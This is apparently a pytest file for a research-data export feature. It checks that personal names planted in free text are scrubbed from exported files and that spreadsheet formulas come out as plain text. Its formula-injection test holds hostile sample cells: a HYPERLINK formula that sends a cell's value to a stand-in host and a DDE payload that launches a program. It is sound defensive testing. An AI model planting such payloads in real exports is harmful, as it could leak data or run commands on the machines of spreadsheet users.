"""Every free text of every research file, end-of-course ones too, loses every name the
store knows and comes out as text a spreadsheet will not run."""

from __future__ import annotations

import csv
import hashlib
import re
import uuid
from dataclasses import dataclass
from pathlib import Path

from sqlalchemy import select

from lt_desktop.core.name_scrubbing import REPLACEMENT
from lt_desktop.core.sign_in import sign_in
from lt_desktop.core.workspace import Workspace
from lt_desktop.domain.vocabulary import (
    AttachmentKind,
    ConsentScope,
    ItemKind,
    MarkPosition,
    MembershipRole,
    SessionKind,
)
from lt_desktop.storage.models import (
    Attachment,
    ClassSession,
    Essay,
    EssayMark,
    Interview,
    Membership,
    Person,
    QuestionnaireAnswer,
    QuestionnaireItem,
    QuestionnaireResponse,
    User,
)


def _found(name: str, text: str) -> bool:
    return re.search(rf"(?<!\w){re.escape(name)}(?!\w)", text, re.IGNORECASE) is not None


def _allowed(admin: Workspace, person_id: uuid.UUID, scope: ConsentScope) -> bool:
    states = {s.scope: s.active for s in admin.consent.states(person_id)}
    return states[scope] and states[ConsentScope.SHARE_WITH_UNIVERSITY]


@dataclass
class _Texts:
    """Where free text is planted: the records of consenting writers, one of each kind."""

    story_writer: uuid.UUID
    answer: uuid.UUID
    answer_writer: uuid.UUID
    interview: uuid.UUID
    interview_writer: uuid.UUID
    essay: uuid.UUID
    essay_writer: uuid.UUID
    meeting: uuid.UUID


def _places(admin: Workspace) -> _Texts:
    people = [p.id for p in admin.people.list_people()]
    story_writer = next(
        p for p in people if _allowed(admin, p, ConsentScope.STORIES) and admin.stories.by_person(p)
    )
    with admin.store.read() as session:
        answer_id, answer_writer = next(
            (answer.id, response.person_id)
            for answer, response in session.execute(
                select(QuestionnaireAnswer, QuestionnaireResponse)
                .join(
                    QuestionnaireResponse,
                    QuestionnaireResponse.id == QuestionnaireAnswer.response_id,
                )
                .join(QuestionnaireItem, QuestionnaireItem.id == QuestionnaireAnswer.item_id)
                .where(QuestionnaireItem.kind == ItemKind.FREE_TEXT)
            )
            if _allowed(admin, response.person_id, ConsentScope.QUESTIONNAIRES)
        )
        interview = next(
            i
            for i in session.scalars(
                select(Interview).join(Attachment, Attachment.interview_id == Interview.id)
            )
            if _allowed(admin, i.person_id, ConsentScope.INTERVIEW)
        )
        agreed = set(
            session.scalars(
                select(EssayMark.essay_id).where(
                    EssayMark.position == MarkPosition.AGREED, EssayMark.score.is_not(None)
                )
            )
        )
        essay, essay_writer = next(
            (e, m.person_id)
            for e, m in session.execute(
                select(Essay, Membership).join(Membership, Membership.id == Essay.membership_id)
            )
            if e.id in agreed and _allowed(admin, m.person_id, ConsentScope.ESSAY_RESEARCH)
        )
        meeting = session.scalars(
            select(ClassSession.id).where(ClassSession.kind == SessionKind.SENSE_MAKING)
        ).one()
        return _Texts(
            story_writer,
            answer_id,
            answer_writer,
            interview.id,
            interview.person_id,
            essay.id,
            essay_writer,
            meeting,
        )


def _plant(admin: Workspace, places: _Texts, text: str, title: str = "") -> None:
    """``text`` into a story, a questionnaire answer, an interview's notes and its
    transcript, an essay (its title too) and the sense-making notes."""
    story = admin.stories.by_person(places.story_writer)[0].story
    admin.stories.save(
        story.session_id,
        places.story_writer,
        text=text,
        answers={qid: text for qid in story.answers},
    )
    admin.interviews.save_meeting_notes(places.meeting, text)
    with admin.store.write() as session:
        answer = session.get(QuestionnaireAnswer, places.answer)
        assert answer is not None
        answer.text = text
        interview = session.get(Interview, places.interview)
        assert interview is not None
        interview.notes = text
        transcript = session.scalars(
            select(Attachment).where(
                Attachment.interview_id == interview.id,
                Attachment.kind == AttachmentKind.INTERVIEW_TRANSCRIPT,
            )
        ).first()
        assert transcript is not None
        data = f"Interviewer: Tell me about the group.\nParticipant: {text}\n".encode()
        transcript.data, transcript.size = data, len(data)
        transcript.sha256 = hashlib.sha256(data).hexdigest()
        essay = session.get(Essay, places.essay)
        assert essay is not None
        essay.text = text
        essay.title = title or text


def _export(folder: Path, out: Path, *, shift_dates: bool = False) -> dict[str, int]:
    """Export as the researcher into ``out`` (made here, beside the store folder)."""
    out.mkdir()
    with sign_in(folder, "researcher", "demo") as researcher:
        return researcher.research.export(out, shift_dates=shift_dates).files


def _everything(folder: Path) -> str:
    return "\n".join(
        p.read_text(encoding="utf-8") for p in sorted(folder.rglob("*")) if p.is_file()
    )


def test_names_planted_in_every_kind_of_free_text_are_found_in_no_exported_file(
    demo_dir: Path, tmp_path: Path
) -> None:
    with sign_in(demo_dir, "demo", "demo") as admin:
        places = _places(admin)
        writers = {
            places.story_writer,
            places.answer_writer,
            places.interview_writer,
            places.essay_writer,
        }
        with admin.store.read() as session:
            people = [p for p in session.scalars(select(Person)) if p.id not in writers]
            staff_ids = set(
                session.scalars(
                    select(Membership.person_id).where(
                        Membership.role.in_([MembershipRole.FACILITATOR, MembershipRole.LECTURER])
                    )
                )
            )
            accounts = [u.display_name for u in session.scalars(select(User))]
            interviewers = sorted(set(session.scalars(select(Interview.interviewer_name))))
        staff = [p for p in people if p.id in staff_ids][:4]
        others = [p for p in people if p.id not in staff_ids][:8]
        assert len(staff) == 4 and len(others) == 8
        full = [f"{p.given_name} {p.family_name}" for p in others + staff]
        alone = [p.given_name for p in others + staff if len(p.given_name) >= 3]
        unnamed = [n for n in interviewers if n] + [a for a in accounts if a]
        planted = full + alone + unnamed
        text = (
            f"I sat with {full[0]} and {alone[1]}; {full[2].upper()} spoke about home and "
            f"{alone[3].lower()} laughed. " + " ".join(f"{name} listened." for name in planted)
        )
        _plant(admin, places, text, title=f"On learning with {alone[0]}")
    out = tmp_path / "export"
    _export(demo_dir, out, shift_dates=True)
    everything = _everything(out)
    found = [name for name in planted if _found(name, everything)]
    # 12 full names, 12 given names alone, 2 interviewers and 5 account names, in each of
    # a story and its answers, a questionnaire answer, interview notes and a transcript,
    # an essay's title and text and the sense-making notes.
    assert len(planted) >= 30
    assert found == []
    assert everything.count(REPLACEMENT) >= 8 * len(planted)


def test_the_writers_own_name_becomes_their_research_id(demo_dir: Path, tmp_path: Path) -> None:
    with sign_in(demo_dir, "demo", "demo") as admin:
        places = _places(admin)
        with admin.store.read() as session:
            writer = session.get(Person, places.interview_writer)
            assert writer is not None
            own, research_id = f"{writer.given_name} {writer.family_name}", writer.research_id
        _plant(admin, places, f"{own} here: I found my voice.")
    out = tmp_path / "export"
    _export(demo_dir, out)
    with open(out / "interviews.csv", newline="", encoding="utf-8") as handle:
        row = next(r for r in csv.DictReader(handle) if r["research_id"] == research_id)
    assert row["notes"] == f"{research_id} here: I found my voice."
    transcript = (out / row["transcript_files"]).read_text(encoding="utf-8")
    assert f"Participant: {research_id} here" in transcript
    assert not _found(own, _everything(out))


def test_text_that_looks_like_a_formula_comes_out_as_text_in_every_file(
    demo_dir: Path, tmp_path: Path
) -> None:
    formulas = [
        '=HYPERLINK("http://x.example/?q="&A1,"Open")',
        "+44 call me",
        "-cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
    ]
    with sign_in(demo_dir, "demo", "demo") as admin:
        places = _places(admin)
        _plant(admin, places, formulas[0], title=formulas[3])
        with admin.store.write() as session:
            interview = session.get(Interview, places.interview)
            assert interview is not None
            interview.notes = formulas[1]
            meeting = session.get(ClassSession, places.meeting)
            assert meeting is not None
            meeting.notes = formulas[2]
    out = tmp_path / "export"
    cells: list[str] = []
    for name in _export(demo_dir, out):
        with open(out / name, newline="", encoding="utf-8") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    for formula in formulas:
        assert "'" + formula in cells, formula
    plain_number = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)")
    risky = [
        c for c in cells if c.startswith(("=", "+", "-", "@")) and not plain_number.fullmatch(c)
    ]
    assert risky == []
